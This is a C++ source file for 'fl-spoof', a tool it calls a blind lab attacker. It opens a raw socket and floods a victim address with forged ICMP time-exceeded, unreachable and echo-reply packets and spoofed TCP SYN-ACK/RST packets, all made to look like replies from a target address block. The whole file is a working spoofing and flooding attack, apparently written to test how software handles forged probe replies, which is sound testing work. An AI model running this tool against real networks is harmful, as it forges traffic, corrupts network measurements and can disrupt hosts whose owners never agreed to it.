// SPDX-License-Identifier: BSD-2-Clause
// fl-spoof: a blind attacker for the lab. Floods VICTIM with forged replies
// to probes it never saw: ICMP time-exceeded and unreachables quoting
// made-up UDP, TCP and ICMP probes from VICTIM toward TARGET-BLOCK, echo
// replies and TCP SYN-ACK/RST "from" the targets. Raw socket, lab use only.
//
//   fl-spoof VICTIM TARGET_PREFIX24 SECONDS PPS

#include <netinet/in.h>
#include <sys/socket.h>
#include <tins/icmp.h>
#include <tins/ip.h>
#include <tins/rawpdu.h>
#include <tins/tcp.h>
#include <tins/udp.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <random>
#include <string>
#include <thread>

namespace {

Tins::IPv4Address in_block(const std::string& prefix24, std::mt19937& rng) {
  return Tins::IPv4Address(prefix24 + "." + std::to_string(rng() % 256));
}

// The probe a reply pretends to answer, as the reply would quote it.
Tins::IP made_up_probe(const Tins::IPv4Address& victim, const Tins::IPv4Address& target, std::mt19937& rng) {
  Tins::IP ip(target, victim);
  ip.ttl(1);
  ip.id(static_cast<std::uint16_t>(rng()));
  switch (rng() % 3) {
    case 0: {
      Tins::UDP udp(static_cast<std::uint16_t>(rng() % 2 ? 33434 : rng()), static_cast<std::uint16_t>(rng()));
      std::uint8_t payload[12] = {};
      ip /= udp / Tins::RawPDU(payload, sizeof payload);
      break;
    }
    case 1: {
      Tins::TCP tcp(static_cast<std::uint16_t>(rng() % 2 ? 80 : 443), static_cast<std::uint16_t>(rng()));
      tcp.flags(Tins::TCP::SYN);
      tcp.seq(static_cast<std::uint32_t>(rng()));
      ip /= tcp;
      break;
    }
    default: {
      Tins::ICMP icmp(Tins::ICMP::ECHO_REQUEST);
      icmp.id(static_cast<std::uint16_t>(rng()));
      icmp.sequence(static_cast<std::uint16_t>(rng()));
      std::uint8_t payload[12] = {};
      ip /= icmp / Tins::RawPDU(payload, sizeof payload);
    }
  }
  return ip;
}

std::vector<std::uint8_t> forged(const Tins::IPv4Address& victim, const std::string& block, std::mt19937& rng) {
  Tins::IPv4Address target = in_block(block, rng);
  switch (rng() % 4) {
    case 0:
    case 1: {  // time exceeded or unreachable from a router that is not on the path
      Tins::IP ip(victim, Tins::IPv4Address("198.18.66." + std::to_string(rng() % 256)));
      Tins::ICMP icmp(rng() % 2 ? Tins::ICMP::TIME_EXCEEDED : Tins::ICMP::DEST_UNREACHABLE);
      if (icmp.type() == Tins::ICMP::DEST_UNREACHABLE) icmp.code(static_cast<std::uint8_t>(rng() % 14));
      auto quote = made_up_probe(victim, target, rng).serialize();
      quote.resize(28);
      ip /= icmp / Tins::RawPDU(quote.data(), static_cast<std::uint32_t>(quote.size()));
      return ip.serialize();
    }
    case 2: {  // an echo reply "from" a target
      Tins::IP ip(victim, target);
      Tins::ICMP icmp(Tins::ICMP::ECHO_REPLY);
      icmp.id(static_cast<std::uint16_t>(rng()));
      icmp.sequence(static_cast<std::uint16_t>(rng()));
      ip /= icmp;
      return ip.serialize();
    }
    default: {  // a SYN-ACK or RST "from" a target
      Tins::IP ip(victim, target);
      Tins::TCP tcp(static_cast<std::uint16_t>(rng()), static_cast<std::uint16_t>(rng() % 2 ? 80 : 443));
      tcp.flags(rng() % 2 ? (Tins::TCP::SYN | Tins::TCP::ACK) : (Tins::TCP::RST | Tins::TCP::ACK));
      tcp.ack_seq(static_cast<std::uint32_t>(rng()));
      ip /= tcp;
      return ip.serialize();
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 5) {
    std::fprintf(stderr, "usage: fl-spoof VICTIM TARGET_PREFIX24 SECONDS PPS\n");
    return 2;
  }
  Tins::IPv4Address victim(argv[1]);
  std::string block = argv[2];
  double seconds = std::stod(argv[3]);
  double pps = std::stod(argv[4]);
  int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("fl-spoof: raw socket");
    return 3;
  }
  std::mt19937 rng(std::random_device{}());
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = static_cast<std::uint32_t>(victim);
  auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  auto gap = std::chrono::duration<double>(1.0 / pps);
  unsigned long sent = 0;
  while (std::chrono::steady_clock::now() < end) {
    auto packet = forged(victim, block, rng);
    if (::sendto(fd, packet.data(), packet.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
    std::this_thread::sleep_for(gap);
  }
  std::printf("%lu\n", sent);
  return 0;
}
